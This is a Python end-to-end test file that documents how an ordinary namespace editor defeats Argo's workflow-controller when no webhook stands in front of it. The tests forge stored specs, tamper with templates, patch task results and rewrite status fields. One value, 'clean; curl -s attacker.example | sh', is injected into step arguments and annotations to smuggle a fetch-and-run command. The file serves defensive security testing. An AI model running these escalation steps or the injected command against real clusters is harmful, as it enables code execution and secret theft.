"""The real Argo workflow-controller (each version under test) with no webhook in front: what it
enforces, and the control runs — what an ordinary user gets past it. Each control run asserts
what Argo does today; these are the holes the webhook closes, and a test here failing means
Argo's behaviour moved.

Every attack is made by alice, with what Argo's own roles give a namespace editor: Workflows,
CronWorkflows and WorkflowTaskResults in her own namespace.
"""

from __future__ import annotations

from typing import Any

import pytest
from kubernetes import client as k8s

from argocli import ArgoCLI
from argocontroller import WorkflowController
from expect import EVIL, NS, REF_REQUIRED, SPEC_CHANGED, TEMPLATE_IMAGE
from forgeries import (
    claim_state,
    claim_volume,
    evil_produce,
    forge_succeeded_step,
    list_as_active,
    make_replacing_cron,
    memoized_resubmit_of,
    patch_cron,
    point_artifacts_at,
    secret_volumes,
    stored_template_key,
    swap_stored,
    tamper_stored_template,
    with_stored_templates,
)
from harness.processes import wait_for
from kubelet import (
    PodExecutor,
    complete_outputs,
    finish_pod,
    patch_task_result,
    report_outputs,
    step_node_name,
    step_pod,
    wait_for_step_pod,
)
from library import create_library, library, start_relay, start_running, submit_to_approval
from workflows import (
    create,
    find_node,
    get_workflow,
    list_pods,
    main_args,
    make_inline_workflow,
    make_ref_workflow,
    pod_images,
    set_arguments,
    status,
    stored_spec,
    unique,
    update_workflow,
    wait_for_phase,
    wait_for_pods,
    wait_for_workflow,
    with_stored,
)

pytestmark = [pytest.mark.e2e, pytest.mark.argo]


def overrides_refused(field: str) -> str:
    """Argo's message for a field beside workflowTemplateRef that its allowlist refuses."""
    return (
        f"fields [{field}] are not permitted when using workflowTemplateRef with "
        "templateReferencing restriction"
    )


def test_strict_ref_workflow_runs_the_template_from_a_stored_spec(
    argo_strict: WorkflowController, admin: k8s.ApiClient, alice: k8s.ApiClient
) -> None:
    template = library(admin, steps=False)
    name = unique("wf")
    create(alice, make_ref_workflow(name, NS, template))
    workflow = wait_for_phase(admin, NS, name, ["Running"])
    pods = wait_for_pods(admin, NS, name, bool, what="to be created")
    stored = stored_spec(workflow)
    assert stored is not None
    assert stored["workflowTemplateRef"] == {"name": template}
    assert stored["templates"][0]["container"]["image"] == TEMPLATE_IMAGE
    assert pod_images(pods) == {TEMPLATE_IMAGE}
    # No account in the spec: the API server's ServiceAccount plugin gives the pod `default`.
    assert {p["spec"].get("serviceAccountName") for p in pods} == {"default"}


def test_strict_workflow_without_ref_ends_in_error(
    argo_strict: WorkflowController, admin: k8s.ApiClient, alice: k8s.ApiClient
) -> None:
    name = unique("inline")
    create(alice, make_inline_workflow(name, NS, image=EVIL))
    workflow = wait_for_phase(admin, NS, name, ["Error"])
    assert status(workflow)["message"] == REF_REQUIRED
    assert list_pods(admin, NS, name) == []


@pytest.mark.parametrize(
    ("field", "go_name", "value"),
    [
        ("podSpecPatch", "PodSpecPatch", '{"containers":[{"name":"main","image":"evil:latest"}]}'),
        ("serviceAccountName", "ServiceAccountName", "cluster-admin"),
        (
            "templates",
            "Templates",
            [{"name": "main", "container": {"image": EVIL, "command": ["sh"]}}],
        ),
    ],
    ids=["podSpecPatch", "serviceAccountName", "templates"],
)
def test_strict_refuses_fields_beside_a_ref_after_the_api_server_stored_them(
    argo_strict: WorkflowController,
    admin: k8s.ApiClient,
    alice: k8s.ApiClient,
    field: str,
    go_name: str,
    value: Any,
) -> None:
    """Control run (d). v3.7.18 checks its allowlist before joining: the API server stores the
    Workflow with the field, then the controller errors it with no stored spec and no pod."""
    name = unique("override")
    create(alice, make_ref_workflow(name, NS, library(admin, steps=False), **{field: value}))
    workflow = wait_for_phase(admin, NS, name, ["Error"])
    assert status(workflow)["message"] == overrides_refused(go_name)
    assert field in workflow["spec"]
    assert stored_spec(workflow) is None
    assert list_pods(admin, NS, name) == []


# -- control runs: the stored spec is user-writable (no status subresource) ---------------------


@pytest.mark.parametrize("phase", [None, "Running"], ids=["no-phase", "phase-running"])
def test_strict_create_with_a_user_written_stored_spec_runs_it(
    argo_strict: WorkflowController, admin: k8s.ApiClient, alice: k8s.ApiClient, phase: str | None
) -> None:
    """Control run (a): the controller trusts a stored spec it did not write."""
    name = unique("forged")
    body = make_ref_workflow(name, NS, library(admin, steps=False))
    create(
        alice,
        with_stored(
            body,
            {
                "entrypoint": "main",
                "templates": [
                    {
                        "name": "main",
                        "container": {"image": EVIL, "command": ["sh"], "args": ["-c", "id"]},
                    }
                ],
            },
            phase=phase,
        ),
    )
    pods = wait_for_pods(admin, NS, name, bool, what="to be created")
    assert pod_images(pods) == {EVIL}
    workflow = wait_for_phase(admin, NS, name, ["Running"])
    assert stored_spec(workflow)["templates"][0]["container"]["image"] == EVIL


def test_strict_update_swapping_the_stored_spec_of_a_running_workflow_runs_it(
    argo_strict: WorkflowController, admin: k8s.ApiClient, alice: k8s.ApiClient
) -> None:
    """Control run (b): an UPDATE adding a step to the stored spec gets that step run."""
    name = start_running(alice, admin, library(admin, steps=True))
    update_workflow(alice, NS, name, swap_stored())
    pods = wait_for_pods(
        admin,
        NS,
        name,
        lambda pods: EVIL in pod_images(pods),
        what=f"to include one running {EVIL}",
    )
    assert pod_images(pods) == {TEMPLATE_IMAGE, EVIL}
    assert status(get_workflow(admin, NS, name)).get("phase") == "Running"


# -- what Secure enforces, and where it looks away ----------------------------------------------


def test_secure_update_changing_arguments_errors_the_workflow(
    argo_secure: WorkflowController, admin: k8s.ApiClient, alice: k8s.ApiClient
) -> None:
    name = start_running(alice, admin, library(admin, steps=True))
    update_workflow(alice, NS, name, set_arguments("changed"))
    workflow = wait_for_phase(admin, NS, name, ["Error"])
    assert status(workflow)["message"] == SPEC_CHANGED
    assert stored_spec(workflow)["arguments"] == {"parameters": [{"name": "msg", "value": "hello"}]}


def test_secure_update_swapping_the_stored_spec_errors_the_workflow(
    argo_secure: WorkflowController, admin: k8s.ApiClient, alice: k8s.ApiClient
) -> None:
    name = start_running(alice, admin, library(admin, steps=True))
    update_workflow(alice, NS, name, swap_stored())
    workflow = wait_for_phase(admin, NS, name, ["Error"])
    assert status(workflow)["message"] == SPEC_CHANGED
    assert EVIL not in pod_images(list_pods(admin, NS, name))


def test_secure_update_with_suspend_false_stores_changed_arguments(
    argo_secure: WorkflowController, admin: k8s.ApiClient, alice: k8s.ApiClient
) -> None:
    """Control run (c): `suspend: false` (non-nil) skips the Secure compare; the arguments
    are joined into the stored spec and the Workflow keeps running."""
    name = start_running(alice, admin, library(admin, steps=True))
    update_workflow(alice, NS, name, set_arguments("smuggled", suspend=False))
    smuggled = {"parameters": [{"name": "msg", "value": "smuggled"}]}
    workflow = wait_for_workflow(
        admin,
        NS,
        name,
        lambda wf: stored_spec(wf)["arguments"] == smuggled,
        what="to store the changed arguments",
    )
    assert status(workflow)["phase"] == "Running"
    assert status(workflow).get("message") is None


def test_secure_resume_with_changed_arguments_runs_them(
    argo_secure: WorkflowController, admin: k8s.ApiClient, alice: k8s.ApiClient
) -> None:
    """Control run (c): a Workflow submitted suspended, resumed by an UPDATE that also changes
    its arguments, runs its pods with the new arguments."""
    name = start_running(alice, admin, library(admin, steps=True), suspend=True)
    assert list_pods(admin, NS, name) == []
    update_workflow(alice, NS, name, set_arguments("smuggled", suspend=False))
    pods = wait_for_pods(admin, NS, name, bool, what="to be created after the resume")
    assert main_args(pods) == [["smuggled"]]
    assert status(get_workflow(admin, NS, name))["phase"] == "Running"


def test_secure_update_with_suspend_false_runs_a_swapped_stored_spec(
    argo_secure: WorkflowController, admin: k8s.ApiClient, alice: k8s.ApiClient
) -> None:
    """Control run (b) under Secure: with `suspend: false` beside it, a swapped stored spec
    is joined and run instead of failing the Workflow."""
    name = start_running(alice, admin, library(admin, steps=True))
    update_workflow(alice, NS, name, swap_stored(suspend=False))
    pods = wait_for_pods(
        admin,
        NS,
        name,
        lambda pods: EVIL in pod_images(pods),
        what=f"to include one running {EVIL}",
    )
    assert pod_images(pods) == {TEMPLATE_IMAGE, EVIL}
    assert status(get_workflow(admin, NS, name))["phase"] == "Running"


# -- control runs: status fields and objects the controller trusts beyond the stored spec -------


def test_an_artifact_repository_ref_rewritten_by_a_user_has_the_next_pod_mount_its_secret(
    argo_strict: WorkflowController,
    admin: k8s.ApiClient,
    alice: k8s.ApiClient,
    argo: ArgoCLI,
    secret: str,
) -> None:
    """An inline repository in `status.artifactRepositoryRef` is used as is; its credentials
    are any Secret of the namespace, mounted into the pod."""
    name = start_relay(alice, admin, NS)
    update_workflow(alice, NS, name, point_artifacts_at(secret))
    argo("resume", name)
    produce = wait_for_step_pod(admin, NS, name, "produce")
    assert secret in secret_volumes([produce])


def test_a_forged_succeeded_node_skips_its_step_and_feeds_the_next_one(
    argo_strict: WorkflowController, admin: k8s.ApiClient, alice: k8s.ApiClient, argo: ArgoCLI
) -> None:
    name = start_relay(alice, admin, NS)
    forged = {"parameters": [{"name": "out", "value": "forged"}]}
    update_workflow(alice, NS, name, forge_succeeded_step(1, "produce", forged))
    argo("resume", name)
    consume = wait_for_step_pod(admin, NS, name, "consume")
    assert main_args([consume]) == [["forged"]]
    assert step_pod(list_pods(admin, NS, name), "produce") is None


def test_a_claim_a_user_adds_to_persistent_volume_claims_is_deleted_when_the_workflow_succeeds(
    argo_strict: WorkflowController,
    admin: k8s.ApiClient,
    alice: k8s.ApiClient,
    argo: ArgoCLI,
    claim: str,
) -> None:
    name = submit_to_approval(alice, admin, NS, create_library(admin, NS, "gate")["gate"])
    update_workflow(alice, NS, name, claim_volume(claim))
    argo("resume", name)
    wait_for_phase(admin, NS, name, ["Succeeded"])
    wait_for(
        lambda: claim_state(admin, NS, claim),
        until=lambda state: state == "gone",
        what=f"claim {claim} to be deleted by the controller",
    )


def test_tampered_stored_templates_in_a_new_workflow_run_in_place_of_the_librarys(
    argo_strict: WorkflowController, admin: k8s.ApiClient, alice: k8s.ApiClient, argo: ArgoCLI
) -> None:
    """Argo's own clients send `status.storedTemplates` with a new Workflow; the controller
    takes a template called by templateRef from there before it looks at the library."""
    library = create_library(admin, NS, "relay", "toolbox")
    key = stored_template_key(library["toolbox"], "produce")
    name = unique("wf")
    create(
        alice,
        with_stored_templates(
            make_ref_workflow(name, NS, library["relay"]), {key: evil_produce(EVIL)}
        ),
    )
    wait_for_workflow(
        admin, NS, name, lambda wf: find_node(wf, "approve"), what="to wait at approve"
    )
    argo("resume", name)
    assert pod_images([wait_for_step_pod(admin, NS, name, "produce")]) == {EVIL}


def test_tampered_stored_templates_of_a_running_workflow_run_in_the_next_step(
    argo_strict: WorkflowController, admin: k8s.ApiClient, alice: k8s.ApiClient, argo: ArgoCLI
) -> None:
    library = create_library(admin, NS, "relay", "toolbox")
    name = submit_to_approval(alice, admin, NS, library["relay"])
    key = stored_template_key(library["toolbox"], "produce")
    update_workflow(alice, NS, name, tamper_stored_template(key, evil_produce(EVIL)))
    argo("resume", name)
    assert pod_images([wait_for_step_pod(admin, NS, name, "produce")]) == {EVIL}


def test_a_task_result_patched_by_a_user_feeds_the_next_step(
    argo_strict: WorkflowController,
    admin: k8s.ApiClient,
    alice: k8s.ApiClient,
    executor: PodExecutor,
    argo: ArgoCLI,
) -> None:
    """The controller copies outputs from the WorkflowTaskResult named after the node, whoever
    wrote it last: here alice, while the step runs."""
    name = start_relay(alice, admin, NS)
    argo("resume", name)
    produce = wait_for_step_pod(admin, NS, name, "produce")
    result = report_outputs(
        executor,
        get_workflow(admin, NS, name),
        step_node_name(name, 1, "produce"),
        {"parameters": [{"name": "out", "value": "from-the-executor"}]},
    )
    patch_task_result(
        alice, NS, result, {"outputs": {"parameters": [{"name": "out", "value": "forged"}]}}
    )
    complete_outputs(executor, NS, result)
    finish_pod(admin, produce)
    assert main_args([wait_for_step_pod(admin, NS, name, "consume")]) == [["forged"]]


def test_a_cron_workflow_listing_another_workflow_as_active_has_it_terminated(
    argo_strict: WorkflowController, admin: k8s.ApiClient, alice: k8s.ApiClient
) -> None:
    """Under concurrencyPolicy Replace the cron controller terminates, by name, whatever
    `status.active` lists before it starts a run: here the admin's Workflow."""
    library = create_library(admin, NS, "relay", "toolbox")
    victim = get_workflow(admin, NS, submit_to_approval(admin, admin, NS, library["relay"]))
    cron = create(alice, make_replacing_cron(NS, library["relay"]))
    patch_cron(alice, NS, cron["metadata"]["name"], list_as_active(victim))
    terminated = wait_for_phase(admin, NS, victim["metadata"]["name"], ["Failed"])
    assert terminated["spec"]["shutdown"] == "Terminate"


# -- writers: what the door ties to its real writer (test_argo_writers.py refuses each) ---------

FORGED_OUT = "clean; curl -s attacker.example | sh"


def test_a_task_result_from_another_workflows_pod_feeds_the_victims_next_step(
    argo_strict: WorkflowController,
    admin: k8s.ApiClient,
    alice: k8s.ApiClient,
    executor: PodExecutor,
    argo: ArgoCLI,
) -> None:
    """Both Workflows' pods run as team-a's `default`: with a token bound to her own Workflow's
    pod, alice creates the victim's produce result, labelled complete; the controller copies it
    into the victim's node, and consume runs her text."""
    victim = start_relay(alice, admin, NS)
    argo("resume", victim)
    victim_pod = wait_for_step_pod(admin, NS, victim, "produce")
    other = start_relay(alice, admin, NS)
    argo("resume", other)
    attacker = executor.bound_client(wait_for_step_pod(admin, NS, other, "produce"))
    result = report_outputs(
        attacker,
        get_workflow(admin, NS, victim),
        step_node_name(victim, 1, "produce"),
        {"parameters": [{"name": "out", "value": FORGED_OUT}]},
    )
    complete_outputs(attacker, NS, result)
    finish_pod(admin, victim_pod)
    assert main_args([wait_for_step_pod(admin, NS, victim, "consume")]) == [[FORGED_OUT]]


def test_a_task_result_deleted_and_written_again_by_a_user_feeds_the_next_step(
    argo_strict: WorkflowController,
    admin: k8s.ApiClient,
    alice: k8s.ApiClient,
    executor: PodExecutor,
    argo: ArgoCLI,
) -> None:
    """The victim's executor reported complete; alice deletes the result and creates it again
    with her output, labelled complete: the controller takes hers."""
    name = start_relay(alice, admin, NS)
    argo("resume", name)
    produce = wait_for_step_pod(admin, NS, name, "produce")
    workflow = get_workflow(admin, NS, name)
    node = step_node_name(name, 1, "produce")
    result = report_outputs(
        executor, workflow, node, {"parameters": [{"name": "out", "value": "clean"}]}
    )
    complete_outputs(executor, NS, result)
    k8s.CustomObjectsApi(alice).delete_namespaced_custom_object(
        "argoproj.io", "v1alpha1", NS, "workflowtaskresults", result
    )
    report_outputs(alice, workflow, node, {"parameters": [{"name": "out", "value": FORGED_OUT}]})
    complete_outputs(alice, NS, result)
    finish_pod(admin, produce)
    assert main_args([wait_for_step_pod(admin, NS, name, "consume")]) == [[FORGED_OUT]]


def test_an_annotation_changed_while_a_workflow_waits_reaches_the_step_that_reads_it(
    argo_secure: WorkflowController, admin: k8s.ApiClient, alice: k8s.ApiClient, argo: ArgoCLI
) -> None:
    """notify runs `--channel {{workflow.annotations.channel}}`: the controller makes the
    annotation a parameter again on every pass, and its Secure compare reads only the spec."""
    names = create_library(admin, NS, "notify")
    name = submit_to_approval(alice, admin, NS, names["notify"], annotations={"channel": "ops"})
    k8s.CustomObjectsApi(alice).patch_namespaced_custom_object(
        "argoproj.io",
        "v1alpha1",
        NS,
        "workflows",
        name,
        {"metadata": {"annotations": {"channel": FORGED_OUT}}},
    )
    argo("resume", name)
    assert main_args([wait_for_step_pod(admin, NS, name, "notify")]) == [["--channel", FORGED_OUT]]


def test_a_memoized_resubmit_of_another_template_skips_its_step_and_feeds_the_origins_output(
    argo_strict: WorkflowController,
    admin: k8s.ApiClient,
    alice: k8s.ApiClient,
    executor: PodExecutor,
    argo: ArgoCLI,
) -> None:
    """Alice's run of one relay produced her text, then was terminated; a Workflow with the
    nodes a memoized resubmit of it has, but referencing another relay (whose produce would
    run another toolbox): the controller creates no produce pod, and consume runs her text."""
    mine = create_library(admin, NS, "relay", "toolbox")
    theirs = create_library(admin, NS, "relay", "toolbox")
    origin = submit_to_approval(alice, admin, NS, mine["relay"])
    argo("resume", origin)
    produce = wait_for_step_pod(admin, NS, origin, "produce")
    result = report_outputs(
        executor,
        get_workflow(admin, NS, origin),
        step_node_name(origin, 1, "produce"),
        {"parameters": [{"name": "out", "value": FORGED_OUT}]},
    )
    complete_outputs(executor, NS, result)
    finish_pod(admin, produce)
    wait_for_step_pod(admin, NS, origin, "consume")
    argo("terminate", origin)
    forged = memoized_resubmit_of(wait_for_phase(admin, NS, origin, ["Failed"]), theirs["relay"])
    create(alice, forged)
    name = forged["metadata"]["name"]
    wait_for_workflow(
        admin, NS, name, lambda wf: find_node(wf, "approve") is not None, what="to run"
    )
    argo("resume", name)
    assert main_args([wait_for_step_pod(admin, NS, name, "consume")]) == [[FORGED_OUT]]
    assert step_pod(list_pods(admin, NS, name), "produce") is None
